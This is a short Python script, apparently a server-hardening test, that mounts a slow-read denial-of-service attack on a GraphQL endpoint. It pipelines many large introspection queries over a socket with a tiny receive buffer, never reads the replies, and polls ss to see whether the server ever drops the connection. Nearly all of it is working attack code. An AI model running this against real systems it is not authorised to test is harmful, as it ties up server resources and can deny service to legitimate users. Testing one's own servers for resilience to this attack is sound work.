"""Slow-read: pipeline many requests whose answers total MBs, never read (tiny receive buffer);
watch with ss whether the server ever drops the connection."""
import socket, time, sys, json, subprocess
HOST, PORT, N, WAIT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
q = json.dumps({"query": "{ __schema { types { name description fields { name description args { name description } } } } }"}).encode()
req = b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(q) + q
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); s.connect((HOST, PORT))
lport = s.getsockname()[1]
s.sendall(req * N); t0 = time.monotonic()
def state():
    out = subprocess.run(["ss", "-tnH", "state", "all", "( sport = :%d and dport = :%d )" % (PORT, lport)], capture_output=True, text=True).stdout.split()
    return " ".join(out[:3]) if out else "GONE"
while time.monotonic() - t0 < WAIT:
    print("t=%5.1f server-side socket: %s" % (time.monotonic() - t0, state()), flush=True); time.sleep(10)
s.settimeout(5); got = 0
try:
    while True:
        d = s.recv(1 << 20)
        if not d: print("EOF"); break
        got += len(d)
except Exception as e: print("read stopped:", type(e).__name__)
print("bytes received after waiting: %d (of ~%d)" % (got, N * 29200))
